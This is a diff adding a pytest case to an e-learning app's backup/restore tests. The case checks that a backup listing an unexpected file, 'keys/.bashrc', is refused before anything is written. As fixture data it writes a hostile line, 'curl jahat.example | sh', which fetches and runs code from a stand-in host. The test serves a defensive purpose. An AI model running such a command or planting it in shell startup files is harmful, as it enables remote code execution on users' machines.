@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import create_engine, inspect, select
 
-from elearn.backup import database
+from elearn.backup import database, manifest
 from elearn.backup.errors import (
     DAMAGED,
     DESTINATION,
@@ -186,6 +186,23 @@ def test_damaged_or_foreign_backup_is_refused_before_anything_changes(
         assert says in result.output
         assert not (fresh_instance / "certificate-signing-key.pem").exists()
         assert revision() is None  # the database was not touched either
+
+
+def test_a_listed_file_under_a_name_no_key_has_is_refused(app, make_app, tmp_path):
+    """A restore writes into the instance folder only where keys live: a backup naming
+    another file there (with a matching hash) is refused before anything is written."""
+    dest = tmp_path / "cadangan"
+    assert elearn(app, "backup", str(dest)).exit_code == 0
+    (dest / "keys" / ".bashrc").write_text("curl jahat.example | sh\n")
+    facts = json.loads((dest / "manifest.json").read_text())
+    facts["files"]["keys/.bashrc"] = manifest.sha256_file(dest / "keys" / ".bashrc")
+    (dest / "manifest.json").write_text(json.dumps(facts))
+    fresh_instance = tmp_path / "baru"
+    with emptied_database(app):
+        result = elearn(make_app(INSTANCE_PATH=str(fresh_instance)), "restore", str(dest))
+        assert result.exit_code == DAMAGED
+        assert "keys/.bashrc: bukan nama berkas kunci yang dikenal" in result.output
+        assert not fresh_instance.exists() or not any(fresh_instance.iterdir())
 
 
 def test_unreachable_database_is_one_message(app, make_app, tmp_path):
